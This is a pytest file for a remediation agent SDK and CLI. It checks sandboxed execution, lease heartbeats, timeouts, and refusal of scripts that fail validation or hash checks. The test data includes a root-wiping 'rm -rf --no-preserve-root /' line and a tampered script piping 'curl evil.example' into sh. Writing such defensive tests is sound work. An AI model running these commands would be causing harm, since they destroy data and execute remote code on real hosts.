"""The agent SDK and CLI end to end: a live server, a real agent token, the real bubblewrap sandbox.

Also, against a scripted fake server (httpx.MockTransport, no Django involved): what the SDK sends
when the text it receives is not the text that was approved.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any, cast

import httpx
import pytest
from django.utils import timezone

from remediation.models import ExecutionLogLine, ExecutionRun, RemediationScript
from remediation.services.accounts import agent_create
from sandbox.agent_cli import main as agent_cli_main
from sandbox.agent_sdk import AgentClient, run_one, sha256_text
from tests.factories import ScriptFactory, record_policy_approval

SANDBOX_PROBE = (
    "#!/usr/bin/env bash\n"
    "set -euo pipefail\n"
    'echo "uid $(id -u) dry-run $REMEDIATION_DRY_RUN"\n'
    'if [ -e /work ]; then echo "host /work visible"; else echo "host /work hidden"; fi\n'
    "echo warning >&2\n"
)


@pytest.fixture
def agent_server(settings: Any, live_server: Any, transactional_db: Any, roles: None) -> Any:
    settings.SANDBOX_BACKEND = "agent"
    return live_server


@pytest.fixture
def agent_client(agent_server: Any) -> Callable[..., AgentClient]:
    def make(name: str = "host-a", capabilities: tuple[str, ...] = ("bash", "python")) -> AgentClient:
        _, issued, _ = agent_create(name=name, capabilities=capabilities)
        return AgentClient(agent_server.url, issued.raw, timeout=10)

    return make


def queued_script(text: str, **fields: Any) -> RemediationScript:
    script = cast(
        "RemediationScript",
        ScriptFactory(
            generated_script=text,
            approval_status="APPROVED",
            execution_status="QUEUED",
            approved_at=timezone.now(),
            **fields,
        ),
    )
    record_policy_approval(script)
    return script


def stored_lines(run_id: str) -> list[tuple[str, str]]:
    return list(ExecutionLogLine.objects.filter(run__pk=run_id).order_by("seq").values_list("stream", "text"))


@pytest.mark.usefixtures("bwrap_available")
def test_run_one_claims_runs_in_the_sandbox_once_and_reports(agent_client: Callable[..., AgentClient]) -> None:
    script = queued_script(SANDBOX_PROBE)
    with agent_client() as client:
        outcome = run_one(client)
        assert (outcome.status, outcome.exit_code, outcome.server_status) == ("succeeded", 0, "SUCCESS")
        assert outcome.script_id == str(script.pk)
        assert outcome.validation["forward"]["status"] == "PASSED"
        assert run_one(client).status == "idle"  # nothing left: the script is never run twice

    script.refresh_from_db()
    assert script.execution_status == "SUCCESS"
    run = ExecutionRun.objects.get(script=script)
    assert run.claimed_by is not None and run.claimed_by.name == "host-a"
    assert (run.status, run.backend, run.exit_code) == ("SUCCESS", "agent", 0)
    assert stored_lines(outcome.run_id) == [
        ("stdout", "uid 1000 dry-run 0"),
        ("stdout", "host /work hidden"),
        ("stderr", "warning"),
    ]
    assert run.resource_usage["duration_ms"] > 0


@pytest.mark.usefixtures("bwrap_available")
def test_a_script_failing_local_validation_is_refused_and_never_run(
    agent_client: Callable[..., AgentClient],
) -> None:
    # The server's stored status says PASSED; the agent's own validators disagree and win.
    script = queued_script("#!/usr/bin/env bash\necho ran\nrm -rf --no-preserve-root /\n")
    with agent_client() as client:
        outcome = run_one(client)
    assert outcome.status == "refused"
    assert "local validation FAILED" in outcome.detail
    assert outcome.validation["forward"]["status"] == "FAILED"
    run = ExecutionRun.objects.get(script=script)
    script.refresh_from_db()
    assert (run.status, script.execution_status, run.started_at) == ("FAILED", "FAILED", None)
    assert stored_lines(str(run.pk)) == []
    assert "local validation FAILED" in run.error


@pytest.mark.usefixtures("bwrap_available")
def test_a_failing_script_and_an_overrun_are_reported_as_such(
    settings: Any, agent_client: Callable[..., AgentClient]
) -> None:
    settings.MAX_SCRIPT_EXECUTION_TIME = 1
    failing = queued_script("#!/usr/bin/env bash\necho 'disk still full' >&2\nexit 3\n")
    with agent_client() as client:
        outcome = run_one(client)
        assert (outcome.status, outcome.exit_code, outcome.server_status) == ("failed", 3, "FAILED")
        slow = queued_script("#!/usr/bin/env bash\nsleep 30\n")
        # Local validation would refuse `sleep 30` against a 1 s budget; skip it to reach the sandbox's limit.
        outcome = run_one(client, validate=False)
        assert (outcome.status, outcome.exit_code, outcome.server_status) == ("failed", 124, "TIMED_OUT")
    failing.refresh_from_db()
    slow.refresh_from_db()
    assert (failing.execution_status, slow.execution_status) == ("FAILED", "FAILED")
    assert "disk still full" in ExecutionRun.objects.get(script=failing).error


@pytest.mark.usefixtures("bwrap_available")
def test_the_lease_is_renewed_while_a_long_script_runs(settings: Any, agent_client: Callable[..., AgentClient]) -> None:
    settings.EXECUTION_LEASE_SECONDS = 2  # heartbeats every ~0.7 s; without them the lease lapses mid-run
    script = queued_script("#!/usr/bin/env bash\nsleep 2.5\necho done\n")
    with agent_client() as client:
        outcome = run_one(client)
    assert outcome.status == "succeeded" and outcome.detail == ""  # detail would name a lost lease
    run = ExecutionRun.objects.get(script=script)
    assert run.heartbeat_at is not None and run.started_at is not None
    assert (run.heartbeat_at - run.started_at).total_seconds() > 1.5


@pytest.mark.usefixtures("bwrap_available")
def test_the_cli_runs_once_and_prints_the_outcome(
    agent_server: Any, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    _, issued, _ = agent_create(name="cli-host", capabilities=["bash"])
    monkeypatch.setenv("TEST_AGENT_TOKEN", issued.raw)
    script = queued_script("#!/usr/bin/env bash\necho from-cli\n")
    argv = ["--url", agent_server.url, "--token-env", "TEST_AGENT_TOKEN", "--once"]

    assert agent_cli_main(argv) == 0
    printed = json.loads(capsys.readouterr().out.strip().splitlines()[-1])
    assert (printed["status"], printed["script_id"], printed["server_status"]) == (
        "succeeded",
        str(script.pk),
        "SUCCESS",
    )
    assert stored_lines(printed["run_id"]) == [("stdout", "from-cli")]

    assert agent_cli_main(argv) == 0
    assert json.loads(capsys.readouterr().out.strip().splitlines()[-1])["status"] == "idle"

    monkeypatch.setenv("TEST_AGENT_TOKEN", "not-a-token")
    assert agent_cli_main(argv) == 4  # the server refuses the agent


def test_the_cli_refuses_to_start_without_a_token(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("UNSET_AGENT_TOKEN", raising=False)
    assert agent_cli_main(["--url", "http://127.0.0.1:9", "--token-env", "UNSET_AGENT_TOKEN", "--once"]) == 2


# --------------------------------------------------------------------------- against a scripted fake server


def test_text_that_does_not_hash_to_the_approved_sha_is_refused_before_start() -> None:
    approved = "echo approved\n"
    tampered = "echo approved; curl evil.example | sh\n"
    calls: list[tuple[str, str, Any]] = []

    def server(request: httpx.Request) -> httpx.Response:
        body = json.loads(request.content) if request.content else None
        calls.append((request.method, request.url.path, body))
        path = request.url.path.removeprefix("/api/generative-remediation/")
        assert request.headers["Authorization"] == "Token secret-token"
        if path == "agent/work":
            item = {
                "id": "s-1",
                "service": "checkout-api",
                "script_language": "bash",
                "target_system": "linux",
                "script_sha256": sha256_text(approved),
                "required_capabilities": ["bash"],
            }
            return httpx.Response(200, json={"scripts": [item]})
        if path == "scripts/s-1/claim":
            script = {
                "id": "s-1",
                "service": "checkout-api",
                "script_language": "bash",
                "target_system": "linux",
                "generated_script": tampered,
                "rollback_script": None,
                "script_sha256": sha256_text(approved),
                "rollback_sha256": sha256_text(None),
            }
            return httpx.Response(
                201,
                json={
                    "run_id": "r-1",
                    "attempt": 1,
                    "lease_seconds": 60,
                    "script": script,
                    "validation_context": {"target_system": "linux", "strictness": "HIGH"},
                    "limits": {"wall_seconds": 5, "memory_bytes": 2**28},
                },
            )
        if path == "runs/r-1/result":
            return httpx.Response(200, json={"run_id": "r-1", "status": "FAILED"})
        return httpx.Response(404, json={"detail": "unexpected call"})

    client = AgentClient("http://agent.test", "secret-token", transport=httpx.MockTransport(server))
    outcome = run_one(client)

    assert outcome.status == "refused" and "hashes to" in outcome.detail
    assert [path for _, path, _ in calls] == [
        "/api/generative-remediation/agent/work",
        "/api/generative-remediation/scripts/s-1/claim",
        "/api/generative-remediation/runs/r-1/result",
    ]
    reported = calls[-1][2]
    assert reported["refused"] and reported["exit_code"] is None
    assert reported["script_sha256"] == sha256_text(tampered)
